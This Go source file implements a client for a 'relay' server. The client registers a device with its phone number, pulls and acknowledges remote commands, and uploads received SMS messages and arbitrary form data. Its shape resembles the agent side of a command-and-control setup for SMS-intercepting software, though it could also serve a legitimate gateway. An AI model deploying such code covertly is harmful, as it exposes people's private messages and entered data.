package device

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"time"
)

// ErrNotFound is returned when the relay reports a missing command.
var ErrNotFound = errors.New("not found")

type Info struct {
	DeviceID     string `json:"device_id"`
	DeviceName   string `json:"device_name"`
	OSVersion    string `json:"os_version"`
	PhoneNumber  string `json:"phone_number"`
	BatteryLevel int    `json:"battery_level"`
}

// Command is one item handed out by a claim.
type Command struct {
	ID          uint            `json:"id"`
	DeviceID    string          `json:"device_id"`
	CommandType string          `json:"command_type"`
	CommandData json.RawMessage `json:"command_data"`
	Status      string          `json:"status"`
	CreatedAt   time.Time       `json:"created_at"`
}

type statusBody struct {
	Status  string `json:"status"`
	Message string `json:"message"`
}

// Client talks to the relay's agent endpoints.
type Client struct {
	BaseURL string
	HTTP    *http.Client
}

func NewClient(baseURL string) *Client {
	return &Client{BaseURL: baseURL, HTTP: &http.Client{}}
}

// Register checks in; created reports a first registration.
func (c *Client) Register(ctx context.Context, d Info) (created bool, err error) {
	code, err := c.do(ctx, http.MethodPost, "/api/device/register", d, nil)
	if err != nil {
		return false, err
	}
	return code == http.StatusCreated, nil
}

// Claim fetches and marks sent every pending command. wait > 0 asks the
// relay to hold the request until work arrives.
func (c *Client) Claim(ctx context.Context, deviceID string, wait time.Duration) ([]Command, error) {
	path := "/api/device/" + url.PathEscape(deviceID) + "/commands"
	if wait > 0 {
		path += "?wait=" + url.QueryEscape(wait.String())
	}
	var out []Command
	if _, err := c.do(ctx, http.MethodGet, path, nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

func (c *Client) ReportExecuted(ctx context.Context, commandID uint) error {
	_, err := c.do(ctx, http.MethodPost, fmt.Sprintf("/api/command/%d/execute", commandID), nil, nil)
	return err
}

func (c *Client) LogSms(ctx context.Context, deviceID, sender, body string) error {
	_, err := c.do(ctx, http.MethodPost, "/api/device/"+url.PathEscape(deviceID)+"/sms",
		map[string]string{"sender": sender, "message_body": body}, nil)
	return err
}

func (c *Client) SubmitForm(ctx context.Context, deviceID string, data any) error {
	_, err := c.do(ctx, http.MethodPost, "/api/device/"+url.PathEscape(deviceID)+"/forms",
		map[string]any{"custom_data": data}, nil)
	return err
}

func (c *Client) do(ctx context.Context, method, path string, in, out any) (int, error) {
	var body io.Reader
	if in != nil {
		raw, err := json.Marshal(in)
		if err != nil {
			return 0, err
		}
		body = bytes.NewReader(raw)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.BaseURL+path, body)
	if err != nil {
		return 0, err
	}
	if in != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	res, err := c.HTTP.Do(req)
	if err != nil {
		return 0, err
	}
	defer res.Body.Close()

	if res.StatusCode >= 300 {
		var sb statusBody
		_ = json.NewDecoder(res.Body).Decode(&sb)
		if res.StatusCode == http.StatusNotFound {
			return res.StatusCode, fmt.Errorf("%s %s: %w: %s", method, path, ErrNotFound, sb.Message)
		}
		return res.StatusCode, fmt.Errorf("%s %s: status %d: %s", method, path, res.StatusCode, sb.Message)
	}
	if out != nil {
		if err := json.NewDecoder(res.Body).Decode(out); err != nil {
			return res.StatusCode, fmt.Errorf("decode %s: %w", path, err)
		}
	}
	return res.StatusCode, nil
}
